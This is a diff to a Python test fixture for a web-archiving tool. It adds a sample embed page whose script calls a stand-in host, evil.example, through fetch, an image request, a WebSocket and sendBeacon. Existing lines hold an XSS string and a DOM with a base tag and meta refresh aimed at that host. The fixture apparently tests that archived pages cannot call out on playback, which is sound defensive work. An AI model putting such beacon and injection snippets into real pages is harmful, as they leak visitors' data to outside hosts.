@@ -1,5 +1,6 @@
 """An archive home with real files and a real database, made of values: one post of every kind that answers differ by."""
 
+import html
 from collections.abc import Sequence
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
@@ -34,6 +35,15 @@ SECRET = "words that nobody may read any more"  # noqa: S105 - the words of the 
 WORDS = "The old bridge is closed from Monday. <script>alert(1)</script>"
 ARTICLE = "https://news.example/bridge"
 PICTURE = png(64, 48)
+PAGE_AT = "https://platform.example/embed"
+PLAYED = """<!DOCTYPE html><html><head><title>Embed</title></head><body><p id="words">{words}</p><p id="ran"></p><script>
+document.getElementById('ran').textContent = 'it ran';
+fetch('https://evil.example/fetched').catch(() => 0);
+new Image().src = 'https://evil.example/picture';
+try {{ new WebSocket('wss://evil.example/socket') }} catch (error) {{ }}
+navigator.sendBeacon('https://evil.example/beacon', 'x');
+</script></body></html>"""
+"""The page as it was fetched: its script runs only where it is played back, and asks for things elsewhere."""
 DOM = (
     "<!DOCTYPE html><html><head><title>River Town</title><base href='https://evil.example/'>"
     "<link rel='preconnect' href='https://evil.example'><meta http-equiv='refresh' content='0;url=https://evil.example/'>"
@@ -71,12 +81,20 @@ class _Making:
 
     def keep(self, post_id: int, post: PostRef, words: str, *, exchanges: Sequence[Exchange] = (), dom: bool = True) -> str:
         """Keep a snapshot of a post; returns its path."""
+        shown = Exchange(
+            at=self.at,
+            method="GET",
+            url=PAGE_AT,
+            status=200,
+            response_headers=(("Content-Type", "text/html; charset=utf-8"),),
+            body=PLAYED.format(words=html.escape(words)).encode(),
+        )
         capture = Capture(
             at=self.at,
-            url="https://platform.example/embed",
+            url=PAGE_AT,
             screenshot=png(320, 200),
             dom=DOM.format(words=words) if dom else None,
-            exchanges=tuple(exchanges),
+            exchanges=(shown, *exchanges),
             browser=None,
         )
         draft = SnapshotDraft(at=self.at, run=self.run, subject=PostStatement(post=post), capture=capture)
